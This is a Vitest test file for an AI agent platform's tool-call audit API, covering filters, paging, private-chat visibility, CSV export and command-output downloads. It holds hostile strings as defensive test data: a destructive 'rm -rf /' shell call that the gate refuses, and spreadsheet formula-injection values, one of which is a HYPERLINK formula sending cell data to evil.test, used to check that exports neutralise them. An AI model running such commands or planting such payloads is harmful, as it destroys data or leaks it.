import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { GET as auditRoute } from "#app/api/audit/route.ts";
import { GET as executionStatsRoute } from "#app/api/metrics/execution-stats/route.ts";
import { GET as metricsRoute } from "#app/api/metrics/tools/route.ts";
import { GET as outputRoute } from "#app/api/tool-calls/[id]/output/route.ts";
import { GET as callRouteOf } from "#app/api/tool-calls/[id]/route.ts";
import { GET as listRoute } from "#app/api/tool-calls/route.ts";
import { closeConnections } from "#db/client.ts";
import { expireApprovals } from "#lib/approvals/expire-approvals.ts";
import { type ChatId, newId } from "#lib/ids.ts";
import { questionOf } from "#lib/metrics/question.ts";
import { readExactly } from "#lib/metrics/read-exactly.ts";
import { readStatistics } from "#lib/metrics/read-statistics.ts";
import { openOutputLog } from "#lib/sandbox/output-log.ts";
import { sandboxStatus } from "#lib/sandbox/sandbox-status.ts";
import { decide, parkCalls } from "#lib/testing/approval-scene.ts";
import { callRoute } from "#lib/testing/call-route.ts";
import { driveGranted } from "#lib/testing/drive-granted.ts";
import { type ModelServer, startModelServer } from "#lib/testing/model-server/index.ts";
import { completeRun, insertChat } from "#lib/testing/run-scene.ts";
import { createScene, createSceneOrganization, type SceneMember } from "#lib/testing/scene.ts";
import { insertPastCalls } from "#lib/testing/settled-calls.ts";
import { useModelServer } from "#lib/testing/use-model-server.ts";

let model: ModelServer;
beforeAll(async () => {
  model = await startModelServer();
  useModelServer(model);
});
afterAll(async () => {
  await model.close();
  await closeConnections();
});

const list = ({ apiKey }: SceneMember, query = "") => callRoute(listRoute, { path: `/api/tool-calls${query}`, apiKey });
const one = (route: typeof callRouteOf, { apiKey }: SceneMember, id: string) => callRoute(route, { params: { id }, apiKey });

async function makePrivate(member: SceneMember, chatId: ChatId): Promise<void> {
  await member.ctx.db.sql((sql) => sql`update chats set visibility = 'private' where id = ${chatId}`);
}

describe("the record of what really ran", () => {
  it("has a row for each of five outcomes, and the figures agree with it", async () => {
    const { ours, theirs } = await createScene();
    const { member, approver } = ours;
    await completeRun(member, [
      {
        calls: [
          { tool: "file_system", args: { action: "write", path: "a.txt", content: "x" } },
          { tool: "file_system", args: { action: "read", path: "gone.txt" } },
        ],
      },
      { calls: [{ tool: "shell", args: { command: "rm -rf /" } }] },
      { text: "Done." },
    ]);
    const denied = await parkCalls(member, [{ tool: "shell", args: { command: "ls" } }]);
    await decide(approver, denied.approvals[0], "deny", "Not now.");
    await driveGranted(member, denied.run.id);
    const expired = await parkCalls(member, [{ tool: "shell", args: { command: "ls" } }]);
    await member.ctx.db.sql((sql) => sql`update approvals set expires_at = now() where id = ${expired.approvals[0].id}`);
    await expireApprovals();
    await driveGranted(member, expired.run.id);

    const { body } = await list(ours.owner);
    expect(body.items.map((call: Record<string, unknown>) => [call.status, call.kind, call.tool]).reverse()).toEqual([
      ["succeeded", null, "file_system"],
      ["failed", null, "file_system"],
      ["refused", "gate_denied", "shell"],
      ["denied", "approval_denied", "shell"],
      ["expired", "approval_expired", "shell"],
    ]);
    expect([body.total, body.hidden, body.nextCursor]).toEqual([5, 0, null]);
    const [last] = body.items;
    expect(last).toMatchObject({
      chatId: expired.chatId,
      approvalId: expired.approvals[0].id,
      userName: "The member",
      entryPoint: "chat",
      durationMs: null,
    });
    expect(last.waitMs).toBeGreaterThan(0);

    for (const read of [readExactly, readStatistics]) {
      const [row] = await member.ctx.db.sql((sql) => read(sql, ours.id, questionOf({ groupBy: "none" })));
      expect(row).toMatchObject({
        calls: 5,
        succeeded: 1,
        failed: 1,
        refused: 1,
        denied: 1,
        expired: 1,
        cancelled: 0,
        unknown: 0,
        executed: 2,
        waited: 2,
      });
    }
    // What the engine wrote into the statistics, without the record: the hour of asking, whatever the hour of deciding.
    const [counted] = await member.ctx.db.sql(
      (sql) => sql<{ calls: number }[]>`
      select sum(succeeded + failed + refused + denied + expired)::int as calls from call_statistics where tenant_id = ${ours.id} and level = 'delta'`,
    );
    expect(counted?.calls).toBe(5);
    const written = body.items.at(-1);
    expect((await callRoute(executionStatsRoute, { apiKey: member.apiKey })).body).toEqual({ file_system: written.durationMs });
    expect((await list(theirs.owner)).body).toMatchObject({ items: [], total: 0, hidden: 0 });
    expect((await callRoute(metricsRoute, { apiKey: theirs.owner.apiKey })).body.items).toEqual([]);
  });

  it("says what a command ran in, and nothing of that for a call that is no command", async () => {
    const { ours } = await createScene();
    const { approvals, run } = await parkCalls(ours.member, [{ tool: "shell", args: { command: "ls" } }]);
    await decide(ours.approver, approvals[0], "approve");
    await driveGranted(ours.member, run.id);
    await completeRun(ours.member, [{ calls: [{ tool: "file_system", args: { action: "list", path: "." } }] }, { text: "Done." }]);
    const { items } = (await list(ours.owner)).body;
    expect(items.map(({ tool, sandbox }: { tool: string; sandbox: string | null }) => [tool, sandbox])).toEqual([
      ["file_system", null],
      ["shell", (await sandboxStatus()).level],
    ]);
  });

  it("links a denied call to its request and to its entries in the log", async () => {
    const { ours } = await createScene();
    const { approvals, run } = await parkCalls(ours.member, [{ tool: "shell", args: { command: "ls" } }]);
    await decide(ours.approver, approvals[0], "deny", "Not now.");
    await driveGranted(ours.member, run.id);
    const audit = (subject: string) => callRoute(auditRoute, { path: `/api/audit?subject=${subject}`, apiKey: ours.auditor.apiKey });
    const requests = (await audit(`approval:${approvals[0].id}`)).body.items;
    const calls = (await audit(`tool-call:${approvals[0].callId}`)).body.items;
    expect(requests.length).toBeGreaterThanOrEqual(2);
    expect(calls).toMatchObject([
      { action: "tool-call-denied", actorId: ours.member.userId, facts: { approvalId: approvals[0].id, kind: "approval_denied" } },
    ]);
  });
});

describe("GET /api/tool-calls", () => {
  it("filters by tool, outcome, reason, person, entry point, model, chat, run and time, and counts what is left", async () => {
    const { ours, theirs } = await createScene();
    const at = new Date("2026-02-03T10:00:00Z");
    const calls = [
      { tool: "shell", status: "succeeded" as const, at, durationMs: 5 },
      { tool: "shell", status: "refused" as const, at, kind: "gate_denied" as const },
      {
        tool: "Shell",
        status: "refused" as const,
        at: new Date("2026-02-03T11:00:00Z"),
        kind: "invalid_call" as const,
        entryPoint: "schedule" as const,
      },
    ];
    const { chatId, runId } = await insertPastCalls(ours.member, calls);
    await insertPastCalls(ours.admin, [{ tool: "shell", status: "failed", at, durationMs: 9 }]);
    await insertPastCalls(theirs.member, [...calls, ...calls]);
    for (const [query, total] of [
      ["", 4],
      ["?tool=shell", 3],
      ["?tool=Shell", 1],
      ["?status=refused", 2],
      ["?status=settled", 4],
      ["?status=open", 0],
      ["?kind=gate_denied", 1],
      ["?entryPoint=schedule", 1],
      ["?model=test", 4],
      ["?model=other", 0],
      [`?userId=${ours.admin.userId}`, 1],
      [`?userId=${theirs.member.userId}`, 0],
      [`?chatId=${chatId}`, 3],
      [`?runId=${runId}&status=succeeded`, 1],
      ["?from=2026-02-03T10:00:00.001Z", 1],
      ["?to=2026-02-03T10:00:00Z", 0],
      ["?from=2026-02-03T10:00:00Z&to=2026-02-03T12:00:00%2B01:00", 3],
    ] as const) {
      const { body } = await list(ours.member, query);
      expect([query, body.total, body.items.length]).toEqual([query, total, total]);
    }
  });

  it.each(["?status=done", "?limit=0", "?limit=201", "?cursor=x", "?from=today", "?kind=no", "?tenantId=1", "?tool=a&tool=b"])(
    "refuses %s",
    async (query) => {
      const { owner } = await createSceneOrganization();
      expect((await list(owner, query)).body).toMatchObject({ status: 400, code: "invalid_request" });
    },
  );

  it("pages through calls of one moment without losing or repeating one", async () => {
    const { owner } = await createSceneOrganization();
    const at = new Date();
    const { ids } = await insertPastCalls(
      owner,
      Array.from({ length: 25 }, () => ({ tool: "shell", status: "succeeded" as const, at, durationMs: 1 })),
    );
    const seen: string[] = [];
    for (let cursor: string | null = ""; cursor !== null; ) {
      const { body } = await list(owner, `?limit=7&cursor=${cursor}`);
      expect(body.total).toBe(25);
      seen.push(...body.items.map(({ id }: { id: string }) => id));
      cursor = body.nextCursor;
    }
    expect(seen).toEqual(ids.toReversed());
  });

  it("keeps a private chat's calls from the others, and says how many the figures count beside", async () => {
    const { ours } = await createScene();
    const { chatId, ids } = await insertPastCalls(ours.admin, [{ tool: "shell", status: "succeeded", at: new Date(), durationMs: 1 }]);
    await makePrivate(ours.admin, chatId);
    const answer = async (person: SceneMember) => {
      const { body } = await list(person);
      const { status, body: found } = await one(callRouteOf, person, ids[0] ?? "");
      return [body.total, body.items.length, body.hidden, status, found.code];
    };
    for (const person of [ours.owner, ours.admin, ours.auditor]) expect(await answer(person)).toEqual([1, 1, 0, 200, undefined]);
    for (const person of [ours.approver, ours.member]) expect(await answer(person)).toEqual([0, 0, 1, 404, "not_found"]);
    expect((await list(ours.member, "?format=csv")).body.trimEnd().split("\r\n")).toHaveLength(1);
  });

  it("shows an approver the calls of private chats that a person had to decide", async () => {
    const { ours } = await createScene();
    const chatId = await insertChat(ours.member);
    await makePrivate(ours.member, chatId);
    await parkCalls(ours.member, [{ tool: "shell", args: { command: "ls" } }], { chatId });
    expect((await list(ours.approver, "?status=awaiting-approval")).body.total).toBe(1);
    expect((await list(ours.approver, "?status=open")).body.total).toBe(1);
  });

  it("keeps the record of a chat that was deleted", async () => {
    const { ours } = await createScene();
    const { chatId } = await insertPastCalls(ours.member, [{ tool: "shell", status: "succeeded", at: new Date(), durationMs: 1 }]);
    await ours.member.ctx.db.sql((sql) => sql`update chats set deleted_at = now() where id = ${chatId}`);
    expect((await list(ours.member)).body.items).toMatchObject([{ chatId, isChatDeleted: true }]);
  });

  it("exports everything that the filters leave, a call a line, with nothing that a spreadsheet would calculate", async () => {
    const { ours, theirs } = await createScene();
    const at = new Date();
    const hostile = ['=HYPERLINK("http://evil.test/?"&A1,"ok")', "@SUM(1)", "+1", "-1", "\t=1", "\r=1", 'x"\r\n"y'];
    await insertPastCalls(
      ours.member,
      hostile.map((tool) => ({ tool, status: "refused" as const, at, input: tool })),
    );
    await insertPastCalls(
      ours.member,
      Array.from({ length: 1_100 }, () => ({ tool: "shell", status: "succeeded" as const, at, durationMs: 3 })),
    );
    await insertPastCalls(theirs.member, [{ tool: "shell", status: "succeeded", at, durationMs: 3 }]);
    const { headers, body } = await list(ours.member, "?format=csv");
    expect(headers.get("content-disposition")).toBe('attachment; filename="tool-calls.csv"');
    const lines = body.trimEnd().split("\r\n");
    expect(lines).toHaveLength(1 + 1_107);
    expect(body.replaceAll("\r\n", "")).not.toMatch(/[\r\n]/);
    for (const line of lines.slice(1)) for (const cell of line.split(",")) expect(cell.replace(/^"/, "")).not.toMatch(/^[=+@\t-]/);
    const [head = ""] = lines;
    const duration = head.split(",").indexOf("durationMs") - head.split(",").length;
    expect(lines.slice(1).reduce((sum: number, line: string) => sum + Number(line.split(",").at(duration)), 0)).toBe(3_300);
    expect((await list(ours.member, "?format=csv&tool=shell")).body.trimEnd().split("\r\n")).toHaveLength(1_101);
    expect((await list(ours.member, `?tool=${encodeURIComponent("@SUM(1)")}`)).body.items).toMatchObject([
      { tool: "@SUM(1)", input: "@SUM(1)" },
    ]);
  });

  it("has, for every figure, as many calls behind it", async () => {
    const { ours } = await createScene();
    const at = new Date();
    await insertPastCalls(ours.member, [
      { tool: "shell", status: "succeeded", at, durationMs: 1 },
      { tool: "shell", status: "denied", at, kind: "approval_denied" },
      { tool: "web_fetch", status: "failed", at, durationMs: 8, entryPoint: "schedule" },
    ]);
    const { body: metrics } = await callRoute(metricsRoute, { apiKey: ours.member.apiKey });
    for (const row of metrics.items)
      for (const status of ["settled", "succeeded", "failed", "refused", "denied", "expired", "cancelled", "unknown", "not-run"]) {
        const { body } = await list(ours.member, `?from=${metrics.from}&to=${metrics.to}&tool=${row.key}&status=${status}`);
        const of = { ...row, settled: row.calls, "not-run": row.refused + row.denied + row.expired + row.cancelled };
        expect([row.key, status, body.total + body.hidden]).toEqual([row.key, status, of[status]]);
      }
  });
});

describe("GET /api/tool-calls/:id/output", () => {
  it("is everything that the command wrote, for those who may read the call", async () => {
    const { ours, theirs } = await createScene();
    const { chatId, ids } = await insertPastCalls(ours.member, [
      { tool: "shell", status: "succeeded", at: new Date(), durationMs: 1 },
      { tool: "shell", status: "refused", at: new Date() },
    ]);
    const [id = newId(), without = newId()] = ids;
    const log = openOutputLog(ours.id, id);
    const line = "=0123456789 é\n";
    for (let index = 0; index < 2_000; index++) log.write(Buffer.from(line.repeat(100)));
    await log.close();
    const { status, headers, body } = await one(outputRoute, ours.member, id);
    expect([status, headers.get("content-type"), headers.get("x-content-type-options")]).toEqual([
      200,
      "application/octet-stream",
      "nosniff",
    ]);
    expect(headers.get("content-disposition")).toBe(`attachment; filename="output-${id}.txt"`);
    expect(body).toBe(line.repeat(200_000));
    expect((await one(outputRoute, ours.member, without)).status).toBe(404);
    expect((await one(outputRoute, theirs.owner, id)).status).toBe(404);
    await makePrivate(ours.member, chatId);
    expect((await one(outputRoute, ours.approver, id)).status).toBe(404);
    expect((await one(outputRoute, ours.auditor, id)).status).toBe(200);
  });
});
